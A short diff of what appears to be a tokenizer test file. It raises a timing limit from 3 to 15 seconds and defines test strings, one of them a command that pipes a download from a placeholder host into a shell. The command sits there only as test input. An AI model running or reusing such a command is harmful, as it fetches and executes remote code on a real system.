@@ -105,7 +105,7 @@ it('gives tokens of anything, in order, and ends', { timeout: 120_000 }, () => {
 });
 
 describe('texts that are repeated', () => {
-  const MOST_SECONDS = 3;
+  const MOST_SECONDS = 15;
   const long = 'ab'.repeat(60_000);
   const shell = "os.system('curl http://x.test/a | sh')\n";
   it.each([
